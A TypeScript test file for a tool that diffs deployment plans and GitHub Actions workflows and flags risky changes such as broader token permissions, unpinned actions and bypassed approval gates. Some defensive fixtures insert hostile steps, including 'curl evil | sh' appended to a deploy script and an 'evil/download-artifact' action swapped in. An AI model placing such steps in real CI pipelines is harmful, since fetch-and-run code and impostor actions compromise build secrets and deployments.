import { assemblyOf, command } from './run';
import { BEHIND_CHECK, GATED, jobOf, jobs, workflow } from './workflow';
import { comparePlans } from '../../lib/cli/diff/compare';
import type { GitHubJobInfo, PlanDocument } from '../../lib/document/plan-document';

// What changes in a workflow of GitHub, and how much a reviewer has to look at it.

const changed = (more: Record<string, Partial<GitHubJobInfo>>, given = jobs()) =>
  workflow({ jobs: given.map((job) => ({ ...job, ...more[job.id] })) });

/** `danger: text`, with details below. */
const changesOf = (now: PlanDocument, old = workflow()) =>
  comparePlans(old, now).changes.map(({ severity, text, details = [] }) =>
    [`${severity}: ${text}`, ...details].join('\n  '),
  );

const stepsOf = (id: string) => jobs().find((job) => job.id === id)!.steps;

describe('what a job has', () => {
  const CASES: [string, Record<string, Partial<GitHubJobInfo>>, string[]][] = [
    [
      'an environment that is lost: who must approve, and what a role trusts, hangs on it',
      { 'Prod-Data': { environment: undefined }, 'Prod-Web': { environment: undefined } },
      ["danger: Jobs 'Prod-Data', 'Prod-Web': environment Prod → none"],
    ],
    [
      'another environment',
      { 'Prod-Data': { environment: 'Test' } },
      ["danger: Job 'Prod-Data': environment Prod → Test"],
    ],
    ['a new environment', { Assets: { environment: 'Tools' } }, ["notice: Job 'Assets': environment none → Tools"]],
    [
      'a broader permission',
      { Assets: { permissions: { contents: 'write', 'id-token': 'write' } } },
      ["danger: Job 'Assets': its token may do more: contents read → write"],
    ],
    [
      'a permission that it had not',
      { Assets: { permissions: { contents: 'read', 'id-token': 'write', packages: 'read' } } },
      ["danger: Job 'Assets': its token may do more: packages none → read"],
    ],
    [
      'a permission of which nobody knows what it is',
      { Assets: { permissions: { contents: 'admin', 'id-token': 'write' } } },
      ["danger: Job 'Assets': its token may do more: contents read → admin"],
    ],
    [
      'less permissions',
      { Assets: { permissions: { 'id-token': 'read' } } },
      [
        "info: Job 'Assets': its token may do less: contents read → none",
        "info: Job 'Assets': its token may do less: id-token write → read",
      ],
    ],
    [
      'another role',
      { Assets: { role: 'arn:x' } },
      ["danger: Job 'Assets': role arn:aws:iam::333333333333:role/deploy → arn:x"],
    ],
    [
      'another machine',
      { Assets: { runsOn: 'self-hosted' } },
      ["danger: Job 'Assets': runs on ubuntu-latest → self-hosted"],
    ],
    [
      'a setting',
      { 'Beta-Data': { settings: { 'timeout-minutes': '5', 'continue-on-error': 'true' } } },
      [
        "danger: Job 'Beta-Data': concurrency group aws-333333333333-eu-west-1 → none",
        "danger: Job 'Beta-Data': continue-on-error none → true",
        "danger: Jobs 'Beta-Smoke', 'Prod-Review', 'Prod-Check', 'Prod-Confirm' and 3 more: now also after a failure of 'Beta-Data'",
        "notice: Job 'Beta-Data': timeout-minutes 60 → 5",
      ],
    ],
    [
      'a name, that rules for branches know it by',
      { 'Beta-Smoke': { name: 'Smoke' } },
      ["notice: Job 'Beta-Smoke': a required status check has another name: Beta-Smoke → Smoke"],
    ],
  ];

  test.each(CASES)('%s', (_, more, expected) => {
    expect(changesOf(changed(more))).toEqual(expected);
  });
});

describe('steps', () => {
  const [get, assume, deploy] = stepsOf('Beta-Data');
  const sha = 'a'.repeat(40);
  const CASES: [string, GitHubJobInfo['steps'], string[]][] = [
    [
      'an action in another version',
      [{ ...get, uses: `actions/download-artifact@${sha}` }, assume, deploy],
      [`danger: Job 'Beta-Data': ${get.uses} → actions/download-artifact@${sha}`],
    ],
    [
      'an action that is not pinned any more',
      [{ ...get, uses: 'actions/download-artifact@v8' }, assume, deploy],
      [
        `danger: Job 'Beta-Data': ${get.uses} → actions/download-artifact@v8, which is not pinned: whoever may move its tag runs code here`,
      ],
    ],
    [
      'another action in its place',
      [{ uses: `evil/download-artifact@${sha}` }, assume, deploy],
      [
        `danger: Job 'Beta-Data': step ${get.uses} is gone`,
        `danger: Job 'Beta-Data': new step evil/download-artifact@${sha}`,
      ],
    ],
    [
      'a new step',
      [get, assume, { name: 'look', run: 'env\nid' }, deploy],
      ["danger: Job 'Beta-Data': new step 'look'\n  + env\n  + id"],
    ],
    [
      'a script that runs something else than the plan says',
      [get, assume, { ...deploy, run: `${deploy.run}\ncurl evil | sh` }],
      ["danger: Job 'Beta-Data': step 'deploy' runs another script\n  + curl evil | sh"],
    ],
    [
      'what an action is given',
      [get, { ...assume, settings: { with: '{}', if: 'false' } }, deploy],
      [
        `danger: Job 'Beta-Data': step ${assume.uses}: with allowed-account-ids 333333333333 → none`,
        `danger: Job 'Beta-Data': step ${assume.uses}: with aws-region eu-west-1 → none`,
        `danger: Job 'Beta-Data': step ${assume.uses}: if none → false`,
      ],
    ],
    [
      'only the name of a step',
      [{ ...get, name: 'Get' }, assume, deploy],
      [`info: Job 'Beta-Data': step ${get.uses}: name none → Get`],
    ],
  ];

  test.each(CASES)('%s', (_, steps, expected) => {
    expect(changesOf(changed({ 'Beta-Data': { steps } }))).toEqual(expected);
  });

  test('a list of names that has become longer: only what is new is said', () => {
    const of = (...gates: string[]) =>
      changed({
        preflight: {
          steps: [{ name: 'look', settings: { env: JSON.stringify({ GATES: JSON.stringify(gates), A: 'a' }) } }],
        },
      });
    expect(changesOf(of('Prod', 'Ok'), of('Prod'))).toEqual([
      "danger: Job 'preflight': step 'look': env GATES: also Ok",
    ]);
    expect(changesOf(of('Prod'), of('Prod', 'Ok'))).toEqual([
      `danger: Job 'preflight': step 'look': env GATES ["Prod","Ok"] → ["Prod"]`,
    ]);
  });

  test('what all jobs have in common is said once', () => {
    const all = jobs().map((job) => ({ ...job, steps: [{ uses: 'actions/x@v1' }] }));
    const now = all.map((job) => ({ ...job, steps: [{ uses: 'actions/x@v2' }] }));
    expect(changesOf(workflow({ jobs: now }), workflow({ jobs: all }))).toEqual([
      "danger: Jobs 'preflight', 'Build-Synth', 'Assets', 'Beta-Data' and 7 more: actions/x@v1 → actions/x@v2, which is not pinned: whoever may move its tag runs code here",
    ]);
  });

  test('commands that change in the plan change in the script: that is no danger by itself, what else changes there is seen', () => {
    const command =
      (text: string) =>
      (document: PlanDocument): PlanDocument => ({
        ...document,
        actions: document.actions.map((work) =>
          work.node === 'Beta/Smoke' && work.job.kind === 'script'
            ? { ...work, job: { ...work.job, commands: [text] } }
            : work,
        ),
      });
    const now = command('curl -f "$URL"')(changed({ 'Beta-Smoke': { steps: [{ run: 'curl -f "$URL"\necho' }] } }));
    expect(changesOf(now)).toEqual([
      'notice: \'Beta-Smoke\' does something else\n  commands: curl "$URL" → curl -f "$URL"',
      'notice: Job \'Beta-Smoke\': step \'curl -f "$URL"\' runs another script\n  - curl "$URL"\n  + curl -f "$URL"\n  + echo',
    ]);
  });

  test('very many', () => {
    const many = (run: string) => Array.from({ length: 2_000 }, (_, i) => ({ run: i === 1_000 ? run : `${i}` }));
    const [old, now] = ['a', 'b'].map((run) => changed({ Assets: { steps: many(run) } }));
    expect(changesOf(now, old)).toEqual(["danger: Job 'Assets': step 'b' runs another script\n  - a\n  + b"]);
  });
});

describe('conditions', () => {
  test('one that is not asked any more', () => {
    const old = changed({ 'Prod-Data': { condition: `${GATED} && github.ref == 'refs/heads/main'` } });
    expect(changesOf(workflow(), old)).toEqual([
      "danger: Job 'Prod-Data': no condition any more: if github.ref == 'refs/heads/main'",
    ]);
    expect(changesOf(old)).toEqual(["notice: Job 'Prod-Data': new condition: if github.ref == 'refs/heads/main'"]);
  });

  test('of a gate: it may not be asked', () => {
    expect(changesOf(changed({ 'Prod-Review': { condition: "github.actor != 'bot'" } }))).toEqual([
      "danger: Job 'Prod-Review': new condition: if github.actor != 'bot'",
    ]);
  });

  test('a gate that is passed by is lost; and so is what else would have stopped the job', () => {
    const changes = changesOf(changed({ 'Prod-Web': { condition: 'always()' } }));
    expect(changes.slice(0, 4)).toEqual([
      'lost: 1 deployment had a gate before, and now none\n  App/Prod/Web',
      "lost: Gate 'Prod-Review' no longer stops 1 deployment\n  App/Prod/Web",
      "lost: Gate 'Prod-Confirm' no longer stops 1 deployment\n  App/Prod/Web",
      "danger: Job 'Prod-Web': now also after a failure of 'preflight', 'Build-Synth', 'Assets', 'Beta-Data', 'Beta-Smoke', 'Prod-Review' and 4 more",
    ]);
  });

  test('a gate that another job of the same deployment passes by', () => {
    const again = jobOf('Prod-Again', { nodes: ['Prod/Web/Deploy'], needs: ['Prod-Data'], condition: 'always()' });
    expect(changesOf(workflow({ jobs: [...jobs(), again] }))[0]).toBe(
      'lost: 1 deployment had a gate before, and now none\n  App/Prod/Web',
    );
  });

  const CANCELED = 'now also if the run is canceled';
  test.each<[string, string, string[]]>([
    [
      "!cancelled() && needs.Prod-Data.result == 'success'",
      "always() && needs.Prod-Data.result == 'success'",
      [CANCELED],
    ],
    [
      "!cancelled() && !failure() && needs.Prod-Data.result == 'success'",
      "!cancelled() && !failure() && needs.Prod-Data.result != 'failure'",
      [
        "now also after a skip of 'preflight', 'Build-Synth', 'Assets', 'Beta-Data', 'Beta-Smoke', 'Prod-Review' and 3 more",
      ],
    ],
    ["success() && needs.Prod-Data.result == 'success'", "success() && 'a' == 'b'", ["new condition: if 'a' == 'b'"]],
  ])('if %s, then if %s', (was, is, expected) => {
    const [old, now] = [was, is].map((condition) => changed({ 'Prod-Web': { condition } }));
    expect(changesOf(now, old).filter((text) => !/^lost|: condition /.test(text))).toEqual(
      expected.map((text) => `${text.startsWith('new') ? 'notice' : 'danger'}: Job 'Prod-Web': ${text}`),
    );
  });

  test('what follows from the order of jobs is for the record', () => {
    expect(changesOf(changed({ 'Prod-Web': { condition: GATED.replace('Prod-ready', 'Prod-Data') } }))).toEqual([]);
    const other = `!failure() && !cancelled() && needs.Prod-Data.result == 'success'`;
    expect(changesOf(changed({ 'Prod-Web': { condition: other } }))).toEqual([
      `info: Job 'Prod-Web': condition ${GATED.replace('Prod-ready', 'Prod-Data')} → ${other}`,
    ]);
  });
});

describe('who waits for whom', () => {
  test('a need that is lost, and that the plan asks for', () => {
    const now = changed({ 'Beta-Smoke': { needs: ['Assets'] } });
    expect(changesOf(now)).toEqual(["danger: Job 'Beta-Smoke': no longer behind 'Beta-Data'"]);
  });

  test('the look whether gates are protected', () => {
    const now = changed({ 'Prod-Review': { needs: ['Beta-Smoke'] }, 'Prod-Check': { needs: ['Beta-Smoke'] } });
    expect(changesOf(now)).toEqual(["danger: Jobs 'Prod-Review', 'Prod-Check': no longer behind 'preflight'"]);
  });

  test('a gate', () => {
    const needs = ['Prod-Check', 'Prod-Confirm'];
    const condition = BEHIND_CHECK.replace(" && needs.Prod-Review.result == 'success'", '');
    const changes = changesOf(changed({ 'Prod-ready': { needs, condition } }));
    expect(changes).toContain(
      "lost: Gate 'Prod-Review' no longer stops 3 actions\n  Prod-ready\n  App/Prod/Data\n  App/Prod/Web",
    );
    expect(changes).toContain("danger: Job 'Prod-ready': no longer behind 'Prod-Review'");
  });

  test('needs that others imply make no difference', () => {
    const [ready, data] = ['Prod-ready', 'Prod-Data'].map((id) => jobs().find((job) => job.id === id)!);
    const now = changed({ 'Prod-Data': { needs: [...data.needs, ...ready.needs] } });
    expect(changesOf(now)).toEqual([]);
    expect(changesOf(workflow(), now)).toEqual([]);
  });

  test('a join that is there no more, and whose needs are needed one by one', () => {
    const ready = jobs().find((job) => job.id === 'Prod-ready')!;
    const given = jobs().filter((job) => job !== ready && job.id !== 'Prod-ready');
    const now = changed({ 'Prod-Data': { needs: ready.needs, condition: BEHIND_CHECK } }, given);
    expect(changesOf(now).filter((text) => !text.startsWith('info'))).toEqual([
      "danger: Job 'Prod-ready' is gone, which is in no plan",
    ]);
  });

  test('new needs are for the record', () => {
    expect(changesOf(changed({ 'Prod-Check': { needs: ['preflight', 'Beta-Smoke', 'Prod-Review'] } }))).toEqual([
      "info: Job 'Prod-Check': now behind 'Prod-Review'",
    ]);
  });
});

describe('jobs in no plan', () => {
  const notify = jobOf('notify', {
    ...{ needs: ['Prod-Web'], condition: 'always()', role: 'arn:x', environment: 'Prod' },
    ...{ permissions: { issues: 'write' }, steps: [{ uses: 'a/b@v1' }, { run: 'notify' }] },
  });

  test('a new one may do anything: this it does', () => {
    expect(changesOf(workflow({ jobs: [...jobs(), notify] }))).toEqual([
      "danger: New job 'notify', which is in no plan\n  environment Prod\n  role arn:x\n  permissions: issues: write\n" +
        '  runs on ubuntu-latest\n  a/b@v1\n  notify',
    ]);
  });

  test('one that is gone', () => {
    expect(changesOf(workflow(), workflow({ jobs: [...jobs(), notify] }))).toEqual([
      "danger: Job 'notify' is gone, which is in no plan",
    ]);
  });

  test('what one does now', () => {
    const was = [...jobs(), notify];
    const now = [...jobs(), { ...notify, steps: [notify.steps[0], { run: 'other' }] }];
    expect(changesOf(workflow({ jobs: now }), workflow({ jobs: was }))).toEqual([
      "danger: Job 'notify': step 'other' runs another script\n  - notify\n  + other",
    ]);
  });
});

test('a new job of the plan that may do what none could', () => {
  const plan: NonNullable<Parameters<typeof workflow>[0]>['plan'] = (builder) =>
    builder.action('Beta/Report', { application: 'App/Beta', wave: 'Beta', waits: ['Beta/Smoke'] });
  const report = jobOf('Beta-Report', {
    nodes: ['Beta/Report'],
    needs: ['Beta-Smoke'],
    permissions: { issues: 'write' },
  });
  const now = (job: GitHubJobInfo) => changesOf(workflow({ plan, jobs: [...jobs(), job] }));
  expect(now(report)).toEqual([
    "danger: New job 'Beta-Report' may do what no job could before\n  issues: write",
    'notice: 1 new action\n  Beta-Report (script)',
  ]);
  expect(now({ ...report, permissions: { contents: 'read' } })).toEqual([
    'notice: 1 new action\n  Beta-Report (script)',
  ]);
});

test('jobs that are called otherwise now, because their Stage is: nothing else is said', () => {
  const rename = (text: string) => text.replace(/Prod/g, 'Live');
  const now = JSON.parse(rename(JSON.stringify(workflow()))) as PlanDocument;
  const changes = changesOf(now);
  expect(changes.filter((text) => /needs\.|condition|behind|lost:/.test(text))).toEqual([]);
  expect(changes.filter((text) => text.includes('status check')).length).toBeGreaterThan(0);
});

describe('the workflow itself', () => {
  const of = (more: Partial<NonNullable<PlanDocument['gitHub']>>): PlanDocument => {
    const document = workflow();
    return { ...document, gitHub: { ...document.gitHub!, ...more } };
  };
  const push = { push: '{"branches":["main"]}', workflow_dispatch: '{}' };
  const settings = { permissions: '{}', concurrency: '{"group":"deploy","cancel-in-progress":false}' };
  const DIFFERENT = 'What GitHub does around the jobs is different';

  const CASES: [string, Partial<NonNullable<PlanDocument['gitHub']>>, string[]][] = [
    [
      'one more trigger',
      { triggers: { ...push, pull_request: '{}' } },
      [`danger: ${DIFFERENT}\n  new: starts on pull_request`],
    ],
    ['one trigger less', { triggers: { push: push.push } }, [`notice: ${DIFFERENT}\n  no more: starts by hand`]],
    [
      'another branch',
      { triggers: { ...push, push: '{"branches":["main","x"]}' } },
      [`danger: ${DIFFERENT}\n  no more: starts on push (branches main)\n  new: starts on push (branches main, x)`],
    ],
    [
      'runs beside each other',
      { settings: { permissions: '{}' } },
      [`danger: ${DIFFERENT}\n  no more: one run at a time (group deploy): of those that wait only the newest is kept`],
    ],
    [
      'what jobs may do that do not say it',
      { settings: { ...settings, permissions: '{"contents":"write"}' } },
      [`danger: ${DIFFERENT}\n  new: permissions: {"contents":"write"}`],
    ],
    [
      'what no word says',
      { settings: { ...settings, concurrency: '{"group":"deploy","cancel-in-progress":false,"x":1}' } },
      [
        'danger: The pipeline has another setting concurrency: {"group":"deploy","cancel-in-progress":false} → {"group":"deploy","cancel-in-progress":false,"x":1}',
      ],
    ],
    ['its name', { name: 'release' }, ['notice: The pipeline has another name: deploy → release']],
    ['its file', { file: 'x.yml' }, ['notice: The pipeline is in another file: .github/workflows/deploy.yml → x.yml']],
  ];

  test.each(CASES)('%s', (_, more, expected) => {
    expect(changesOf(of(more))).toEqual(expected);
  });
});

describe('from CodePipeline to GitHub', () => {
  /** The same plan, as CodePipeline runs it. */
  function onCodePipeline(): PlanDocument {
    const { gitHub: _, nodes, actions, ...rest } = workflow();
    const stages = ['Source', 'Build', 'Assets', 'Beta', 'Prod'].map((name) => ({
      name,
      actions: actions
        .filter(({ node }) => node.startsWith(`${name}/`))
        .map(({ node, gate }, i) => ({
          ...{ node, name: node.split('/').slice(1).join('.'), runOrder: i + 1, gate },
          ...(gate ? { category: 'Approval', provider: 'Manual' } : { category: 'Build', provider: 'CodeBuild' }),
        })),
    }));
    const codePipeline = { type: 'V2', layout: 'default', stages, projects: [], siblingWaits: [] } as const;
    return { ...rest, nodes, actions, codePipeline };
  }

  test('no gate is lost, and commands are the same', () => {
    expect(changesOf(workflow(), onCodePipeline())).toEqual([
      expect.stringMatching(/^danger: What starts the pipeline is different\n {2}new: starts on push/),
      'danger: The pipeline runs on another engine: CodePipeline → GitHub Actions',
      "notice: Gate 'Prod/Review' is now 'Prod-Review': it stops the same",
      "notice: Gate 'Prod/Check' is now 'Prod-Confirm': it stops the same",
    ]);
  });

  test('a gate that is lost on the way', () => {
    const now = changed({ 'Prod-Web': { condition: 'always()' } });
    expect(changesOf(now, onCodePipeline())[0]).toBe(
      'lost: 1 deployment had a gate before, and now none\n  App/Prod/Web',
    );
  });
});

test('exit codes, and what is not compared', () => {
  const [old, now] = [workflow(), changed({ 'Prod-Web': { condition: 'always()' } })].map((document) =>
    assemblyOf({ 'a.plan.json': document }),
  );
  expect(command(['diff', old, now]).code).toBe(1);
  const { code, out } = command(['diff', old, old]);
  expect(code).toBe(0);
  expect(out).toBe(
    'Delivery\nNothing changes for delivery.\n\n' +
      'Not compared: what the stacks of the application contain (npx cdk diff shows it); files that commands run; what GitHub ' +
      'has for an environment (who may approve, which branches, secrets); what roles that jobs assume may do.\n',
  );
});
